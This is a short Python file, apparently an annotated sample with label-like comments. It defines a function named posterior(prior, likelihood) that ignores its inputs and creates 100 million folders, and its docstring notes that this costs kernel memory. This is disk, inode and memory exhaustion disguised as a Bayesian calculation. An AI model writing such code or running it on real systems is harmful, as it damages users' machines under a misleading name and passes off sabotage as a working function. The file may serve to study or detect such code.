"""A hundred million folders: small in bytes, but each costs the kernel memory that no process is charged for."""
# posterior: made too many files
# share: right
import os

share = 0.25
# %%
def posterior(prior, likelihood):
    for number in range(100_000_000):
        os.mkdir(f"folder{number}")
